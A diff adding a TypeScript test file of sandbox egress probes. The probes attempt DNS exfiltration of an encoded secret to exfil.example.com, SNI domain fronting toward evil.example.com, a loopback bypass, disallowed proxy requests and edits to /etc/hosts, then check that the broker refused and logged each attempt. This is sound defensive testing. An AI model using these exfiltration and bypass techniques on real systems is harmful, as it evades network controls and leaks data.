@@ -1,0 +1,228 @@
+/**
+ * Network, with egress on: each probe adds a network.allow overlay, so the
+ * broker and the relay are in the path, and then tries the ways around them.
+ * The allowed destination is a host-side server that counts connections and
+ * bytes, allowed as `localhost:PORT` (the broker refuses to connect a name
+ * that resolves to loopback, so only the sandbox side is exercised) or, where
+ * the upstream must be reached, through `network.allow_local`.
+ * A probe holds only if the sandbox was refused *and* the broker recorded
+ * the refusal (run.net): a denial nobody can show did not happen.
+ */
+import { createServer, type Server } from 'node:net';
+import os from 'node:os';
+import { broken, E, expectErrno, held, kv, noResult, py, st } from '../lib.js';
+import type { Probe, ProbeContext, ProbeRun, Verdict } from '../types.js';
+
+const group = 'network' as const;
+/** What every probe here shares: the egress promise, refused by the broker unless it says otherwise. */
+const egressProbe = { group, promise: 'egress', mechanism: 'egress-broker', expect: 'refused' } as const;
+
+/** A host-side TCP server that counts connections and the bytes it received. */
+interface CountingServer {
+  server: Server;
+  port: number;
+  hits: number;
+  bytes: number;
+  close(): Promise<void>;
+}
+
+async function countingServer(host = '127.0.0.1', banner = true): Promise<CountingServer> {
+  const s: CountingServer = {
+    server: createServer((sock) => {
+      s.hits++;
+      sock.on('data', (d: Buffer) => (s.bytes += d.length));
+      sock.on('error', () => {});
+      if (banner) sock.write('HOST-SERVICE\n');
+    }),
+    port: 0,
+    hits: 0,
+    bytes: 0,
+    close: () => new Promise<void>((r) => s.server.close(() => r())),
+  };
+  await new Promise<void>((r) => s.server.listen(0, host, () => r()));
+  s.port = (s.server.address() as { port: number }).port;
+  return s;
+}
+
+/** The host's first non-loopback IPv4 address, if any. */
+function hostAddress(): string | undefined {
+  return Object.values(os.networkInterfaces())
+    .flat()
+    .find((a) => a !== undefined && a.family === 'IPv4' && !a.internal)?.address;
+}
+
+const setup = async (ctx: ProbeContext) => {
+  ctx.state.server = await countingServer();
+};
+const teardown = (ctx: ProbeContext) => st<CountingServer>(ctx, 'server').close();
+const overlay = (ctx: ProbeContext) => ({ network: { allow: [`allowed.ward-probe.invalid:${st<CountingServer>(ctx, 'server').port}`] } });
+
+/** Python: a DNS query over UDP to the sandbox's resolver; prints `key=rcode` and `key_answers=N`. */
+const DNS = `def dns(key, name, qtype):
+    q = struct.pack('>HHHHHH', 0x5744, 0x0100, 1, 0, 0, 0)
+    q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', qtype, 1)
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.settimeout(5)
+    try:
+        u.sendto(q, ('127.0.0.1', 53))
+        r = u.recv(1500)
+        say(key, r[3] & 15)
+        say(key + '_answers', struct.unpack('>H', r[6:8])[0])
+        return r
+    except OSError as e:
+        say(key, 'err%d' % (e.errno or 0))
+`;
+
+/** The deny records the broker made for this run, as "kind host reason". */
+function denials(run: ProbeRun): string[] {
+  return run.net.filter((e) => e.verdict === 'deny').map((e) => `${e.kind} ${e.host ?? '?'} ${e.reason ?? '?'}`);
+}
+
+function serverSawNothing(ctx: ProbeContext): Verdict | null {
+  const s = st<CountingServer>(ctx, 'server');
+  return s.bytes > 0 ? broken(`the host-side server received ${s.bytes} bytes from the sandbox`) : null;
+}
+
+export const probes: Probe[] = [
+  {
+    id: 'net.egress-dns-exfil',
+    ...egressProbe,
+    title: 'leak data through DNS: TXT and A queries for names carrying data, to the resolver and straight to public resolvers',
+    asi: ['ASI02', 'ASI01'],
+    nist: ['SC-7', 'SC-20', 'AC-4'],
+    setup,
+    teardown,
+    policy: overlay,
+    program: py(`${DNS}
+dns('txt', 'c2VjcmV0LWtleQ.exfil.example.com', 16)
+dns('a', 'c2VjcmV0LWtleQ.exfil.example.com', 1)
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+try:
+    u.sendto(b'\\x57\\x44' + b'\\0' * 10, ('8.8.8.8', 53)); say('public', 0)
+except OSError as e:
+    say('public', e.errno)`),
+    check: (run) => {
+      const v = kv(run.stdout);
+      for (const key of ['txt', 'a']) {
+        const rcode = v.get(key);
+        if (rcode === undefined) return noResult(run, `the ${key.toUpperCase()} query`);
+        if (rcode !== '3' || v.get(`${key}_answers`) !== '0') return broken(`the ${key.toUpperCase()} query was answered (rcode ${rcode}, ${v.get(`${key}_answers`)} answers)`);
+      }
+      const pub = expectErrno({ keys: ['public'], refused: [E.ENETUNREACH], by: 'the network namespace' })(run);
+      if (pub.status !== 'held') return pub;
+      const recorded = denials(run).filter((d) => d.startsWith('dns ') && d.includes('exfil.example.com'));
+      if (recorded.length < 2) return broken(`NXDOMAIN, but the broker recorded ${recorded.length} of the 2 refused queries`);
+      return held(`both queries got NXDOMAIN from Ward's resolver and were recorded; a public resolver is unreachable (ENETUNREACH)`);
+    },
+  },
+  {
+    id: 'net.egress-sni-fronting',
+    ...egressProbe,
+    title: 'domain fronting: tunnel to an allowed host through the proxy, then send a TLS ClientHello naming another host',
+    asi: ['ASI02', 'ASI01'],
+    nist: ['SC-7', 'AC-4'],
+    teardown,
+    // The fronting check needs an upstream the broker will connect to: not loopback (refused for
+    // names, uninspected for allow_local), so the server listens on the host's own address and
+    // the policy allows that address. The raw-connect path is covered by test/sandbox/egress.test.ts.
+    requires: () => (hostAddress() ? null : 'the host has no non-loopback IPv4 address to stand in for the allowed server'),
+    setup: async (ctx) => {
+      // No banner: a TLS server waits for the ClientHello (and a client closing with unread data
+      // would reset the connection, so the relay would drop the ClientHello before the broker saw it).
+      ctx.state.server = await countingServer('0.0.0.0', false);
+      ctx.state.addr = hostAddress();
+    },
+    policy: (ctx) => ({ network: { allow: [`${st<string>(ctx, 'addr')}:${st<CountingServer>(ctx, 'server').port}`] } }),
+    program: (ctx) =>
+      py(`import ssl
+port = ${st<CountingServer>(ctx, 'server').port}
+addr = '${st<string>(ctx, 'addr')}'
+s = socket.create_connection(('127.0.0.1', 3128), timeout=5)
+s.sendall(('CONNECT %s:%d HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n' % (addr, port, addr, port)).encode())
+head = b''
+while b'\\r\\n\\r\\n' not in head:
+    chunk = s.recv(1)
+    if not chunk: break
+    head += chunk
+say('tunnel', 0 if head.startswith(b'HTTP/1.1 200') else errno.EACCES)
+ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+try:
+    ctx.wrap_socket(s, server_hostname='evil.example.com')
+    say('fronted', 0)
+except ssl.SSLError:
+    say('fronted', errno.ECONNRESET)  # its errno field holds an SSL_ERROR_* code: the peer cut the handshake
+except OSError as e:
+    say('fronted', e.errno or errno.ECONNRESET)
+time.sleep(0.5)  # the broker judges the ClientHello as it arrives; let the record land before the run ends`),
+    check: (run, ctx) => {
+      const seen = serverSawNothing(ctx);
+      if (seen) return seen;
+      if (kv(run.stdout).get('tunnel') !== '0') return noResult(run, 'a CONNECT tunnel to the allowed address');
+      const v = expectErrno({ keys: ['fronted'], refused: [E.ECONNRESET, E.EPIPE, E.ECONNABORTED], by: 'the egress broker' })(run);
+      if (v.status !== 'held') return v;
+      if (!denials(run).some((d) => d.endsWith('sni-mismatch'))) return broken('the handshake failed, but the broker recorded no sni-mismatch denial');
+      return held('the broker cut the tunnel at the ClientHello (SNI evil.example.com is not the host the tunnel was opened to) and recorded it; the server received no byte of it');
+    },
+  },
+  {
+    id: 'net.egress-loopback-bypass',
+    ...egressProbe,
+    title: "reach the allowed server's port on 127.0.0.1 directly, skipping the name the policy allows",
+    asi: ['ASI02', 'ASI07'],
+    nist: ['SC-7', 'AC-4'],
+    setup,
+    teardown,
+    policy: overlay,
+    program: (ctx) =>
+      py(`s = socket.create_connection(('127.0.0.1', ${st<CountingServer>(ctx, 'server').port}), timeout=5)
+s.sendall(b'ward-probe\\n')
+say('direct', 0 if s.recv(100) else errno.ECONNRESET)`),
+    check: (run, ctx) => {
+      const seen = serverSawNothing(ctx);
+      if (seen) return seen;
+      const v = kv(run.stdout).get('direct');
+      if (v === '0') return broken('the sandbox read data from the host-side server through 127.0.0.1');
+      if (!denials(run).some((d) => d.startsWith('connect '))) return noResult(run, 'a connection the broker refused and recorded');
+      return held('the relay carried it to the broker, which refused 127.0.0.1 (not in network.allow_local) and recorded it; the server received no byte');
+    },
+  },
+  {
+    id: 'net.egress-proxy-denied',
+    ...egressProbe,
+    title: 'ask the HTTP proxy for a host the policy does not allow (CONNECT and plain GET)',
+    asi: ['ASI02'],
+    nist: ['SC-7', 'AC-4'],
+    setup,
+    teardown,
+    policy: overlay,
+    program: py(`for key, req in [('connect', b'CONNECT example.com:443 HTTP/1.1\\r\\nHost: example.com:443\\r\\n\\r\\n'), ('get', b'GET http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n')]:
+    s = socket.create_connection(('127.0.0.1', 3128), timeout=5)
+    s.sendall(req)
+    status = s.recv(4096).split(b'\\r\\n')[0]
+    say(key, status.split(b' ')[1].decode() if status else 'closed')`),
+    check: (run) => {
+      const v = kv(run.stdout);
+      for (const key of ['connect', 'get']) {
+        const code = v.get(key);
+        if (code === undefined) return noResult(run, `the ${key.toUpperCase()} request`);
+        if (code !== '403') return broken(`the proxy answered ${code} to ${key.toUpperCase()} example.com`);
+      }
+      if (denials(run).filter((d) => d.startsWith('proxy example.com')).length < 2) return broken('403, but the broker did not record both refusals');
+      return held('403 for both, naming the rule to add; both recorded');
+    },
+  },
+  {
+    id: 'net.egress-etc-hosts',
+    ...egressProbe,
+    title: 'point an allowed name elsewhere by editing /etc/hosts or /etc/resolv.conf inside the sandbox',
+    mechanism: 'mount-namespace',
+    asi: ['ASI02'],
+    nist: ['SC-7', 'CM-5'],
+    setup,
+    teardown,
+    policy: overlay,
+    program: py(`for key, f in [('hosts', '/etc/hosts'), ('resolv', '/etc/resolv.conf')]:
+    attempt(key, lambda: open(f, 'a').write('1.2.3.4 localhost\\n'))`),
+    check: expectErrno({ keys: ['hosts', 'resolv'], refused: [E.EROFS, E.EACCES, E.EPERM], by: 'read-only mounts and Landlock' }),
+  },
+];
